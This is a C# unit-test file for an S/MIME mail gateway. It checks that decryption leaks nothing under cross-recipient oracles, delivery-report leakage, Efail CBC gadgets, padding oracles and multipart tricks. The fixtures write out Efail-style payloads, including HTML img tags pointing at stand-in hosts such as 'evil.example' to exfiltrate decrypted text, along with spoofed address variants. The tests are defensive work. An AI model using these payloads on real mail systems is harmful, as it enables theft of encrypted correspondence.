using System.Text;
using Postseal.Mail;
using Postseal.Policy;
using Postseal.TestKit;
using Postseal.Verification;
using static Postseal.TestKit.LetterRoom;
using static Postseal.Tests.Verification.OpeningRoom;

namespace Postseal.Tests.Verification;

/// <summary>
/// Attacks on a gateway that opens mail, by somebody who has Alice's mail to Bob as it was encrypted, and can send any other to
/// whomever. Each was a weakness of a program of this kind.
/// </summary>
public sealed class OpeningAttackTests(OpeningRoom room) : IClassFixture<OpeningRoom>
{
    // Cross-recipient oracle
    [Theory]
    [InlineData("mallory@example.net")]
    [InlineData("carol@example.net")]
    [InlineData("\"bob@example.net\"@example.net")]
    [InlineData("bob%example.net@example.net")]
    [InlineData("example.net!bob")]
    [InlineData("@example.net:bob@example.net")]
    [InlineData("bob+mallory@example.net")]
    [InlineData("bob.@example.net")]
    [InlineData("bob@example.net.")]
    [InlineData("b\u043Eb@example.net")] // a Cyrillic o
    [InlineData("bob\0@example.net")]
    [InlineData("postmaster")]
    [InlineData("")]
    public void Cross_recipient_oracle_another_address_opens_nothing(string recipient)
    {
        var stolen = LetterOf(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob));

        AssertClosed(stolen, room.Process(stolen, recipient: recipient));
    }

    [Theory]
    [InlineData("bob@sub.example.net")]
    [InlineData("bob@example.net.evil.example")]
    [InlineData("bob@ex\u0430mple.net")] // a Cyrillic a
    public void Cross_recipient_oracle_an_address_elsewhere_opens_nothing(string recipient)
    {
        var stolen = LetterOf(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob));

        Assert.IsType<Outcome.Unchanged>(room.Process(stolen, recipient: recipient));
        // With an address of ours beside it, it is closed for both.
        AssertClosed(stolen, room.Process(stolen, null, To(new(recipient), new("carol@example.net"))));
    }

    [Theory]
    [InlineData("BOB@EXAMPLE.NET")]
    [InlineData("\"bob\"@example.net")]
    [InlineData("<bob@example.net>")]
    public void What_the_MTA_delivers_to_the_same_mailbox_is_opened(string recipient)
    {
        var outcome = Assert.IsType<Outcome.Replaced>(room.Process(LetterOf(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob)), recipient: recipient));

        Assert.Contains(Secret, BodyOf(outcome.Message));
    }

    [Fact]
    public void Cross_recipient_oracle_a_ticket_opens_nothing_for_another()
    {
        var stolen = LetterOf(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob));

        AssertClosed(stolen, room.Process(stolen, null, To(new Recipient("mallory@example.net")) with { Ticket = SplitTicket.Incoming }));
        // Of mail that leaves, the second pass opens nothing, whoever it is for.
        var leaving = room.Process(stolen, null, To(new Recipient("bob@example.net")) with { Ticket = new SplitTicket(null, 128, 0) });
        Assert.DoesNotContain(Secret, leaving is Outcome.Replaced replaced ? AllOf(replaced.Message) : "");
    }

    [Fact]
    public void The_same_recipient_twice_is_one()
    {
        var letter = LetterOf(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob));
        Recipient[] twice = [new("bob@example.net"), new("BOB@example.net")];

        Assert.Contains(Secret, BodyOf(Assert.IsType<Outcome.Replaced>(room.Process(letter, null, To(twice))).Message));
    }

    [Fact]
    public void What_is_encrypted_again_is_not_to_a_key_that_opens_mail_here_whoever_it_belongs_to()
    {
        var (team, bob) = (AddressPattern.Parse("team@example.net"), AddressPattern.Parse("bob@example.net"));
        room.Folder.Write("bob.txt", room.Bob.Certificate.ExportCertificatePem());
        var options = room.Options(Opens with { Deliver = OpenedDelivery.Reencrypted });
        options = options with
        {
            Certificates = options.Certificates with
            {
                KeysOf = new Dictionary<AddressPattern, IReadOnlyList<AddressPattern>> { [team] = [bob] },
                Recipients = new Dictionary<AddressPattern, string> { [team] = room.Folder.File("bob.txt") },
            },
        };

        var outcome = room.ProcessWith(options, LetterOf(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob)), To(new Recipient("team@example.net")));

        var message = Assert.IsType<Outcome.Replaced>(outcome).Message;
        Assert.Contains("delivered=notice", Unfolded(message.Headers[0]));
        Assert.DoesNotContain(Secret, AllOf(message));
    }

    // Oracles: what comes back
    [Theory]
    [InlineData("aes-256-gcm", false)]
    [InlineData("aes-256-gcm", true)]
    [InlineData("aes-128-cbc", false)]
    public void A_report_of_success_brings_back_nothing_of_what_is_inside(string cipher, bool isSecond)
    {
        // RFC 3464: with it goes the header as it was delivered, and Postfix sends that to whoever is the envelope sender.
        var inside = Encoding.ASCII.GetBytes($"Content-Type: application/pdf; name=\"takeover.pdf\"\r\n\r\n{Secret}\r\n");
        var letter = LetterOf(SealedLetter.Of(inside, cipher, room.Bob));
        Recipient[] asked = isSecond
            ? [new("bob@example.net"), new("BOB@example.net") { ReportsSuccess = true }]
            : [new("bob@example.net") { ReportsSuccess = true }];

        AssertClosed(letter, room.Process(letter, null, To(asked)));
        AssertClosed(letter, room.Process(letter, null, To(asked) with { Ticket = SplitTicket.Incoming }));
    }

    [Fact]
    public void Text_behind_the_object_is_not_delivered_as_if_it_had_been_encrypted()
    {
        var letter = Encoding.Latin1.GetString(SealedLetter.Of(Plain, "aes-256-gcm", room.Bob)) + "Pay Mallory 1000.\r\n";

        var outcome = room.Process(LetterOf(Encoding.Latin1.GetBytes(letter)));

        Assert.DoesNotContain("Pay Mallory", outcome is Outcome.Replaced { IsForOneRecipient: true } opened ? AllOf(opened.Message) : "");
    }

    // Efail
    [Fact]
    public void Gadget_blocks_open_nothing()
    {
        using var efail = new CbcGadgets([.. "Content-type: text/html; charset=us-ascii\r\n\r\n"u8, .. Encoding.ASCII.GetBytes($"<p>{Secret}\r\n")]);
        room.Folder.Write("gadget@example.net.pem", efail.ReaderPem);
        var honest = room.Process(LetterOf(SignedLetter.OfObject("enveloped-data", efail.Untouched())), recipient: "gadget@example.net");
        Assert.Contains(Secret, AllOf(Assert.IsType<Outcome.Replaced>(honest).Message));

        foreach (var encoded in (byte[][])[
            efail.Before("Content-type: te", "xt/html\r\n\r\n<img ", "src='http://e.x/"),
            efail.Behind(1, " ignore='", "src='http://e.x/"),
            efail.Behind(0, "Content-type:a\r\n")])
        {
            var letter = LetterOf(SignedLetter.OfObject("enveloped-data", encoded));
            AssertClosed(letter, room.Process(letter, recipient: "gadget@example.net"));
        }
    }

    [Fact]
    public void The_first_16_octets_of_CBC_can_be_chosen_and_the_mark_says_that_nobody_vouches_for_them()
    {
        using var efail = new CbcGadgets([.. "Content-type: text/html; charset=us-ascii\r\n\r\n"u8, .. Encoding.ASCII.GetBytes($"<p>{Secret}\r\n")]);
        using var later = new CbcGadgets([.. "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"u8, .. Encoding.ASCII.GetBytes($"<p>{Secret}\r\n")]);
        room.Folder.Write("first@example.net.pem", efail.ReaderPem);
        room.Folder.Write("later@example.net.pem", later.ReaderPem);

        // Where the type begins there, it is gone.
        foreach (var chosen in (string[])["X-Other-type: te", "X:\r\n\r\n<img src='"])
        {
            var letter = LetterOf(SignedLetter.OfObject("enveloped-data", efail.WithBeginning(chosen)));
            AssertClosed(letter, room.Process(letter, recipient: "first@example.net"));
        }

        // Else another field can stand before it, which nobody sees.
        var opened = LetterOf(SignedLetter.OfObject("enveloped-data", later.WithBeginning("X-Anything-at: a")));
        Assert.Contains("integrity=none", Unfolded(Assert.IsType<Outcome.Replaced>(room.Process(opened, recipient: "later@example.net")).Message.Headers[0]));
        AssertClosed(opened, room.Process(opened, Opens with { Unauthenticated = UnauthenticatedContent.Keep }, "later@example.net"));
    }

    // Padding oracle (Vaudenay): where a bounce tells whether a message was opened, one of a single block, whose vector is chosen freely, would
    // tell octet after octet of it.
    [Fact]
    public void Padding_oracle_a_message_of_one_block_is_never_opened_however_it_is_padded()
    {
        using var oracle = new CbcGadgets([.. "Content-type: text/plain\r\n\r\n"u8, .. Encoding.ASCII.GetBytes($"{Secret} And closes at ten.\r\n")]);
        room.Folder.Write("oracle@example.net.pem", oracle.ReaderPem);

        for (var mask = 0; mask < 256; mask++)
        {
            var letter = LetterOf(SignedLetter.OfObject("enveloped-data", oracle.OneBlock(2, at: 15, (byte)mask)));
            AssertClosed(letter, room.Process(letter, recipient: "oracle@example.net"));
        }
    }

    [Theory]
    [InlineData("mixed")]
    [InlineData("related")]
    [InlineData("alternative")]
    [InlineData("digest")]
    public void Multipart_exfiltration_opens_nothing(string subtype)
    {
        var stolen = SealedLetter.Of(Plain, "aes-256-gcm", room.Bob);
        var multipart = SignedLetter.Multipart(
            subtype, "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"u8.ToArray(), stolen, "Content-Type: text/html\r\n\r\n\">"u8.ToArray());

        NothingOpened(multipart);
        NothingOpened(By(room.Mallory).Opaque(multipart));
        NothingOpened(By(room.Mallory).Detached(multipart));
        NothingOpened(SignedLetter.Attached([.. "From: x@evil.example\r\nMIME-Version: 1.0\r\n"u8, .. stolen]));
        NothingOpened(SignedLetter.Multipart("signed", stolen, Plain));
        // And where Mallory encrypts all that to Bob, which he can: the part inside stays closed.
        var inside = room.Process(LetterOf(SealedLetter.Of(multipart, "aes-256-gcm", room.Bob)));
        Assert.DoesNotContain(Secret, AllOf(Assert.IsType<Outcome.Replaced>(inside).Message));
    }

    private void NothingOpened(byte[] entity) => Assert.DoesNotContain(
        Secret, room.Process(LetterOf(entity)) is Outcome.Replaced { Message: var message } ? AllOf(message) : "");
}
